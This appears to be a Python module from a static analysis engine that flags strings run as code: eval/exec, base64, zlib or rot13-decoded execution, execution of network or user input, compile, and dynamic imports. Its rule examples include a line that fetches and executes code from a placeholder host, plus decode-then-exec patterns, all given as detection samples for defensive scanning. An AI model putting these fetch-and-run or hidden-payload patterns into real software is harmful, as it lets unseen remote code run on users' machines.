"""Strings that become code."""

from __future__ import annotations

from engine.analysis.python.declare import python_rule
from engine.analysis.python.evaluate.attributes import check_built
from engine.analysis.python.evaluate.evaluator import Evaluator
from engine.analysis.python.evaluate.lookups import LOOSE
from engine.analysis.python.evaluate.names import HEAVY_MODULES, STDLIB, canonical
from engine.analysis.python.evaluate.sink_registry import PythonCall, handles
from engine.analysis.python.evaluate.values import (
    DANGEROUS_CALLBACKS,
    FOREIGN,
    NOTHING,
    PythonValue,
    Taint,
    taint_words,
    text_of,
)
from engine.analysis.python.rules import execution as rules
from engine.models import Language, Level

EXEC = python_rule(
    "py-exec",
    "A string is run as code",
    "exec_eval",
    Level.HIGH,
    attack="Runs code that no reader of this submission has seen.",
    why="HIGH: honest code is written as code, and what a string holds or becomes is easily overlooked.",
    fix="Submit the code itself; for literals use `ast.literal_eval`, for arithmetic a parser.",
    match=("eval(x)", "exec(open('a').read())", "import builtins as b\nb.exec('1')", "f = eval\nf(x)"),
    not_match=("df.eval('a + b')", "import ast\nast.literal_eval(x)", "def eval(x): return x\neval(1)"),
    cwe=95,
    owasp="LLM05",
)
EXEC_DECODED = python_rule(
    "py-exec-decoded",
    "Decoded text is run as code",
    "exec_eval",
    Level.CRITICAL,
    attack="Hides the payload in an encoding and decodes it at run time.",
    why="CRITICAL: code is encoded before it runs only to keep it from being read.",
    fix="Submit the decoded code.",
    match=(
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import zlib\nexec(zlib.decompress(data))",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
    ),
    not_match=("import base64\nprint(base64.b64decode('cHJpbnQoMSk='))", "exec('print(1)')"),
    cwe=506,
    owasp="LLM05",
)
EXEC_FOREIGN = python_rule(
    "py-exec-foreign",
    "External text is run as code",
    "exec_eval",
    Level.CRITICAL,
    attack=("Lets whoever writes the input, answers the request or controls the socket decide what runs."),
    why="CRITICAL: the code that runs comes from a machine that was not approved; HIGH from whoever types.",
    fix="Parse the input; never run it.",
    match=("eval(input())", "import requests\nexec(requests.get('https://a.example/x').text)"),
    not_match=("import ast\nast.literal_eval(input())", "eval('1')"),
    cwe=95,
    owasp="LLM05",
)
COMPILE = python_rule(
    "py-compile",
    "A string is compiled to code",
    "exec_eval",
    Level.MEDIUM,
    attack="Creates a code object that a later, harmless-looking call runs.",
    why="MEDIUM: compiling alone runs nothing; running the result is reported separately.",
    fix="Submit the code itself.",
    match=("c = compile('1', 's', 'exec')",),
    not_match=("import re\nre.compile('a')",),
    cwe=95,
)
DYNAMIC_IMPORT = python_rule(
    "py-dynamic-import",
    "A module is imported by a computed name",
    "exec_eval",
    Level.MEDIUM,
    attack="Loads a module that no import statement shows.",
    why=(
        "MEDIUM: the name may be harmless; HIGH for modules that run code or programs; LOW for the rest of "
        "the standard library."
    ),
    fix="Use an import statement.",
    match=("__import__('os')", "import importlib\nimportlib.import_module(name)"),
    not_match=("import os", "importer('os')"),
    cwe=470,
)


_RUNNERS = (
    "builtins.eval",
    "builtins.exec",
    "builtins.execfile",
    "timeit.timeit",
    "timeit.repeat",
    "timeit.Timer",
    "cProfile.run",
    "profile.run",
    "pdb.run",
    "pdb.runeval",
    "bdb.Bdb().run",
    "bdb.Bdb().runeval",
    "bdb.Bdb().runctx",
    "pdb.runctx",
    "trace.Trace().run",
    "trace.Trace().runctx",
    "runpy._run_code",
    "runpy._run_module_code",
    "cProfile.runctx",
    "profile.runctx",
    "cProfile.Profile().run",
    "cProfile.Profile().runctx",
    "profile.Profile().run",
    "profile.Profile().runctx",
    "code.InteractiveInterpreter().runsource",
    "code.InteractiveInterpreter().runcode",
    "code.InteractiveConsole().push",
    "numpy.core.numeric.load",
    "doctest.debug_src",
)
_MODEST = frozenset(("timeit.timeit", "timeit.repeat", "timeit.Timer", "cProfile.run", "profile.run"))
DANGEROUS_CALLBACKS.update(_RUNNERS[:3])
DANGEROUS_CALLBACKS.add("builtins.compile")
LOOSE.update((*DANGEROUS_CALLBACKS, "builtins.__import__", "importlib.import_module"))


@handles(*_RUNNERS)
def run_text(evaluator: Evaluator, call: PythonCall) -> PythonValue | None:
    """Report text that is run, by what is known about it, and analyse it where it is constant."""
    source = call.arg(0, "source") or call.arg(0, "stmt")
    code = text_of(source)
    short = call.name.rpartition(".")[2]
    if call.name not in _MODEST:
        _report(evaluator, call, source, code, short)
    if code is not None and call.name != "builtins.execfile":
        evaluator.embed(code, Language.PYTHON, call.node, source, short)
    return PythonValue(taint=source.taint) if source is not None and source.taint else None


def _report(
    evaluator: Evaluator, call: PythonCall, source: PythonValue | None, code: str | None, short: str
) -> None:
    layers = source.layers if source is not None else ()
    taint = source.taint if source is not None else 0
    if layers or taint & Taint.DECODED:
        decoded = " → ".join((*layers, short))
        evaluator.report(EXEC_DECODED, call.node, f"Decoded: {decoded}", value=source)
    elif taint & FOREIGN:
        message = f"`{short}` runs text from {taint_words(taint & FOREIGN)}"
        level = None if taint & (Taint.NETWORK | Taint.SOCKET) else Level.HIGH
        evaluator.report(EXEC_FOREIGN, call.node, message, severity=level, value=source)
    elif code is not None:
        evaluator.report(EXEC, call.node, f"`{short}` runs a constant text", value=source)
    else:
        evaluator.report(EXEC, call.node, f"`{short}` runs text that is known only at run time", value=source)


@handles("builtins.compile")
def compile_text(evaluator: Evaluator, call: PythonCall) -> PythonValue | None:
    """Report `compile`; its result represents the compiled text."""
    source = call.arg(0, "source")
    evaluator.report(COMPILE, call.node, "`compile` makes code from text", value=source)
    if source is None:
        return PythonValue(name="code-object")
    value = source.copy()
    value.name = None
    return value


@handles(
    "builtins.__import__",
    "importlib.import_module",
    "importlib.reload",
    "pkgutil.resolve_name",
    "pydoc.locate",
    "pydoc.safeimport",
    "unittest.mock._importer",
    "builtins.__loader__.load_module",
    "builtins.__spec__.loader.load_module",
)
def import_by_name(evaluator: Evaluator, call: PythonCall) -> PythonValue | None:
    """Return the module, and report how its name was hidden."""
    if call.name == "importlib.reload":
        return call.arg(0, "module")
    name = call.arg(0, "name")
    text = (text_of(name) or "").replace(":", ".") or None
    if text is None:
        evaluator.report(
            DYNAMIC_IMPORT, call.node, "Imports a module that is known only at run time", value=name
        )
        return PythonValue(name="module?")
    top = text.partition(".")[0]
    heavy = canonical(top).partition(".")[0] in HEAVY_MODULES
    found = PythonValue(name=canonical(text if call.name != "builtins.__import__" else top))
    found.built = True
    found.trail = name.trail if name is not None else ()
    if heavy and name is not None and (name.built or name.layers):
        check_built(evaluator, call.node, found, name)
    level = Level.HIGH if heavy else Level.LOW if top in STDLIB else None
    evaluator.report(DYNAMIC_IMPORT, call.node, f"Imports `{text}` by name", severity=level, value=name)
    return found


@handles(
    "types.CodeType",
    "types.FunctionType",
    "types.LambdaType",
    "runpy.run_path",
    "runpy.run_module",
    "code.interact",
    "code.InteractiveConsole",
    "code.InteractiveInterpreter",
    "codeop.compile_command",
    "importlib.util.spec_from_file_location",
    "importlib.machinery.SourceFileLoader",
    "importlib.machinery.ExtensionFileLoader",
    "importlib.load_source",
    "importlib.load_dynamic",
    "zipimport.zipimporter",
    "site.addsitedir",
    "site.addpackage",
    "site.execsitecustomize",
    "venv.create",
    "venv.EnvBuilder",
    "_xxsubinterpreters.run_string",
    "ctypes.pythonapi.PyRun_SimpleString",
    "builtins.breakpoint",
    "pdb.set_trace",
    "IPython.embed",
)
def below_source(evaluator: Evaluator, call: PythonCall) -> PythonValue | None:
    """Report code that has no source here."""
    level = Level.MEDIUM if call.name.startswith(("builtins.", "pdb.", "IPython", "importlib.")) else None
    evaluator.report(
        rules.CODE_OBJECT, call.node, f"`{call.name}` runs or loads code without source", severity=level
    )
    return PythonValue(NOTHING, f"{call.name}()", taint=call.taint)


@handles("pip.main", "pip._internal.main", "pip._internal.cli.main.main", "ensurepip.bootstrap")
def install(evaluator: Evaluator, call: PythonCall) -> PythonValue | None:
    """Report packages that are installed from within the code."""
    evaluator.report(rules.CODE_OBJECT, call.node, "Installs packages while it runs")
    return None
